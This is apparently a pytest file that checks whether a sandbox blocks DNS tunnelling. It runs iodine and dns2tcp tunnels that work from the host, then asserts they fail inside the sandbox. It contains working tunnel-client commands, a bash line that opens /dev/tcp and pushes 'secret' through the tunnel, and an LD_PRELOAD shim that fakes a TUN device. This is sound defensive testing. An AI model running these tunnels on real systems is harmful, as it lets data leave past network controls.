# SPDX-License-Identifier: Apache-2.0
"""Real DNS tunnels with their real servers: they work from the host, and from a bottle nothing arrives."""
import os
import shutil
import signal
import subprocess
import time

import pytest

IODINED, DNS2TCPD = "203.0.113.54", "203.0.113.55"
DNS2TCP_CONF = """listen = %s
port = 53
user = nobody
chroot = /var/empty
domain = d.tunnel.test
resources = echo:203.0.113.20:7000
"""
ECHO = """
import socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), 15); s.settimeout(15)
s.sendall(b"through the tunnel"); print(s.recv(100).decode())
"""


class Servers:
    def __init__(self, internet, d):
        self.d, self.procs, self.internet = d, [], internet
        for address in (IODINED, DNS2TCPD):
            subprocess.run(["ip", "-n", internet.world, "addr", "add", address + "/32", "dev", "lo"], check=True)
        os.makedirs("/var/empty", exist_ok=True)
        with open(d + "/dns2tcpd.conf", "w") as f:
            f.write(DNS2TCP_CONF % DNS2TCPD)
        self.start("dns2tcpd", "-F", "-d", "1", "-f", d + "/dns2tcpd.conf")
        self.start("iodined", "-f", "-P", "pw", "-l", IODINED, "10.99.0.1", "t.tunnel.test")
        time.sleep(1)
        assert all(p.poll() is None for p in self.procs)

    def start(self, *argv):
        p = subprocess.Popen(["ip", "netns", "exec", self.internet.world, shutil.which(argv[0], path="/usr/sbin:/usr/bin")]
                             + list(argv[1:]), stdout=subprocess.DEVNULL, stderr=open(self.d + "/" + argv[0] + ".log", "w"))
        self.procs.append(p)

    def close(self):
        for p in self.procs:
            p.terminate()
            p.wait(timeout=10)


@pytest.fixture(scope="module")
def servers(internet, workdir):
    s = Servers(internet, workdir)
    yield s
    s.close()


def in_host(internet, *argv, **kw):
    return subprocess.Popen(["ip", "netns", "exec", internet.host] + list(argv), stdout=subprocess.PIPE,
                            stderr=subprocess.STDOUT, **kw)


def end(p):
    p.send_signal(signal.SIGINT)
    try:
        return p.communicate(timeout=5)[0]
    except subprocess.TimeoutExpired:
        p.kill()
        return p.communicate()[0]


def wait_for(p, text, seconds=20):
    os.set_blocking(p.stdout.fileno(), False)
    seen, until = b"", time.monotonic() + seconds
    while text not in seen and time.monotonic() < until and p.poll() is None:
        seen += p.stdout.read() or b""
        time.sleep(0.1)
    return seen


@pytest.fixture(params=["synthetic", "forward"])
def mode(request):
    """Bottle, its evidence, and which servers the tunnel's client is pointed at."""
    forward = request.param == "forward"
    bottle = request.getfixturevalue("forwarding" if forward else "bottle")
    return bottle, request.getfixturevalue("forward_evidence" if forward else "evidence"), 1 if forward else 9


def test_dns2tcp(internet, mode, servers):
    bottle, evidence, n = mode
    port = "2222"
    client = in_host(internet, "dns2tcpc", "-z", "d.tunnel.test", "-r", "echo", "-l", port, DNS2TCPD)
    try:
        time.sleep(2)
        r = subprocess.run(["ip", "netns", "exec", internet.host, "python3", "-c", ECHO, port], capture_output=True, timeout=60)
        assert r.stdout == b"through the tunnel\n", (r, end(client))
    finally:
        end(client)
    before = sent(internet)
    evidence.captured = len(internet.capture())
    put(bottle, "/usr/bin/dns2tcpc")
    script = ("(sleep 6; echo hello) | timeout 12 /tmp/dns2tcpc -d 1 -z d.tunnel.test -r echo -l $1 $0 & sleep 5; "
              "timeout 5 bash -c \"exec 3<>/dev/tcp/127.0.0.1/$1; echo secret >&3; head -c1 <&3 | grep -q . && echo through\"; wait")
    servers = ("127.0.0.1", DNS2TCPD, "8.8.8.8")[:n]
    for server, (_, out) in zip(servers, at_once(bottle, [(script, server, str(2222 + i)) for i, server in enumerate(servers)])):
        assert b"through" not in out, (server, out)
    assert sent(internet) == before and internet.capture()[evidence.captured:] == []
    evidence.denied(kind="dns", method="TXT")
    evidence.control()


def test_iodine(internet, mode, servers, workdir):
    bottle, evidence, n = mode
    client = in_host(internet, "iodine", "-f", "-r", "-P", "pw", IODINED, "t.tunnel.test")
    seen = wait_for(client, b"Connection setup complete")
    end(client)
    assert b"Connection setup complete" in seen, seen
    before = sent(internet)
    evidence.captured = len(internet.capture())
    put(bottle, "/usr/sbin/iodine")
    put(bottle, shim(workdir))
    script = "sudo env LD_PRELOAD=/tmp/notun.so timeout 15 /tmp/iodine -f -r -P pw $0 t.tunnel.test 2>&1"
    servers = ("", "127.0.0.1", IODINED, "8.8.8.8")[:n]
    for server, (code, out) in zip(servers, at_once(bottle, [(script, server) for server in servers])):
        assert code != 0 and b"Connection setup complete" not in out and b"Sending" in out, (server, code, out)
    assert sent(internet) == before and internet.capture()[evidence.captured:] == []
    evidence.denied(kind="dns", reason="not_listed")
    evidence.control()


def at_once(bottle, commands):
    """Arguments of `bash -c`, side by side: most of their time they wait. Return: [(code, output)]"""
    procs = [bottle.product.popen("exec", bottle.identity, "--", "bash", "-c", *c) for c in commands]
    outs = [p.communicate(timeout=120)[0] for p in procs]
    return [(p.returncode, out) for p, out in zip(procs, outs)]


def sent(internet):
    """What left the host for any name server. (The tunnel's server goes on speaking to the control's client.)"""
    return internet.packets("src host 198.51.100.2 and (udp or tcp port 53)")


NO_TUN = """
#define _GNU_SOURCE
#include <fcntl.h>
#include <string.h>
#include <dlfcn.h>
#include <stdarg.h>
int open(const char *path, int flags, ...)
{
	int (*real)(const char *, int, ...) = dlsym(RTLD_NEXT, "open");
	return real(strcmp(path, "/dev/net/tun") == 0 ? "/dev/zero" : path, flags, 0600);
}
int ioctl(int fd, unsigned long request, ...) { return 0; }
int system(const char *command) { return 0; }
"""


def shim(d):
    """The guest's kernel has no TUN device, which iodine wants before it says a word: something else in its place."""
    with open(d + "/notun.c", "w") as f:
        f.write(NO_TUN)
    subprocess.run(["gcc", "-shared", "-fPIC", "-w", "-o", d + "/notun.so", d + "/notun.c"], check=True)
    return d + "/notun.so"


def put(bottle, path):
    """The host's program in the bottle: the image is of the same Debian."""
    copy = bottle.product.home + "/" + os.path.basename(path)
    shutil.copy(path, copy)
    os.chmod(copy, 0o755)
    assert bottle.product.run("cp", copy, bottle.identity + ":/tmp/").code == 0
